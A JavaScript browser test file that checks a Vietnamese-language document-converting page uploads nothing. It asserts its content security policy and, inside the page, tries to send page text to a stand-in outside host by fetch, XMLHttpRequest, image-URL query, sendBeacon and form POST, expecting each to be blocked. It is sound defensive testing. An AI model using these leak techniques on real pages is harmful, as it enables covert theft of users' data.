/** That nothing is uploaded by the page that makes a file: as its policy says, as a browser enforces it, and as the page behaves. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openMaker, POLICY } from '../support/maker.mjs';
import { paper } from '../support/maker-paper.mjs';
import { engine } from '../support/pages.mjs';

const skip = engine === 'webkit' && 'files cannot be dropped and keys not pressed through WebKit’s driver';

describe('the policy of the page that makes a file', { skip }, () => {
  it('states a policy under which nothing can be sent away', () => {
    assert.match(POLICY, /default-src 'none'/);
    assert.match(POLICY, /connect-src 'self'/);
    assert.match(POLICY, /form-action 'none'/);
    assert.doesNotMatch(POLICY, /unsafe|\*|https?:/);
  });

  it('lets nothing out, whatever tries, and sends nothing itself, not even to its own server', async () => {
    const tab = await openMaker();
    const sent = [];
    tab.raw.on('request', (request) => sent.push([request.method(), new URL(request.url()), request.hasPostData?.() ?? false]));
    await tab.drop(await paper(), 'nghi-quyet-05.docx');
    await tab.sees('.step.review');
    await tab.press('Ghi nhận “Phấn đấu”');
    await tab.press('Tiếp: tải về và dán');
    await tab.sees('.downloads .primary');
    assert.ok((await tab.download('Tải tệp dữ liệu')).text);
    for (const [method, url, body] of sent) {
      assert.ok((method === 'GET' || method === 'HEAD') && !body, `${method} ${url}`);
      // An address can carry words away, too.
      assert.ok(url.protocol === 'blob:' || (url.origin === tab.origin && url.search === ''), String(url));
    }
    // A machine elsewhere, as far as the policy is concerned.
    const away = tab.origin.replace(/\/\/[^:]+/, '//127.0.0.2');
    const out = await tab.evaluate(async (away) => {
      const blocked = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
      const words = document.body.textContent.slice(0, 2000);
      const fails = async (attempt) => {
        try {
          await attempt();
          return false;
        } catch {
          return true;
        }
      };
      const failed = [
        await fails(() => fetch(away, { method: 'POST', body: words, mode: 'no-cors' })),
        await fails(
          () =>
            new Promise((resolve, reject) => {
              const request = new XMLHttpRequest();
              request.open('POST', away);
              request.onload = resolve;
              request.onerror = reject;
              request.send(words);
            }),
        ),
        await fails(
          () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.onload = resolve;
              image.onerror = reject;
              image.src = `${away}/?${encodeURIComponent(words.slice(0, 200))}`;
            }),
        ),
      ];
      // One engine throws, another says nothing.
      await fails(() => navigator.sendBeacon(away, words));
      const form = document.createElement('form');
      form.action = location.origin;
      form.method = 'post';
      document.body.append(form);
      await fails(() => form.submit());
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { failed, blocked: [...new Set(blocked)].sort(), here: location.pathname };
    }, away);
    assert.deepEqual(out, { failed: [true, true, true], blocked: ['connect-src', 'form-action', 'img-src'], here: '/tao-tep.html' });
    await tab.evaluate(() => localStorage.clear());
    await tab.close();
  });
});
